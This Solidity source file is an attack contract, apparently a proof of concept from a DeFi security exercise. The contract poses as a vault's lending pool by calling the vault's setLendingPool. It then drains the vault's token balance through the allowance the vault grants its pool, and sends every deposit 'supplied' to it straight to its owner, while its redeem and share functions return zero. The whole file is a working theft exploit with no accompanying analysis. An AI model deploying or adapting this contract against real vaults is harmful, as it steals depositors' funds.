// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

interface IVault {
    function setLendingPool(address pool) external;
}

/// Answers the lending-pool interface the vault checks, and forwards whatever the vault "lends"
/// (plus the buffer, through the allowance the vault grants its pool) to the owner.
contract PoolImpostor {
    address private immutable owner;
    IERC20 public immutable asset;

    constructor(IERC20 asset_) {
        owner = msg.sender;
        asset = asset_;
    }

    function run(IVault vault) external {
        require(msg.sender == owner, "not the owner");
        vault.setLendingPool(address(this));
        uint256 rest = asset.balanceOf(address(vault));
        if (rest > 0) asset.transferFrom(address(vault), owner, rest);
    }

    function supply(uint256 assets) external returns (uint256) {
        asset.transferFrom(msg.sender, owner, assets);
        return assets;
    }

    function redeem(uint256) external pure returns (uint256) {
        return 0;
    }

    function previewRedeem(uint256) external pure returns (uint256) {
        return 0;
    }

    function supplySharesOf(address) external pure returns (uint256) {
        return 0;
    }
}
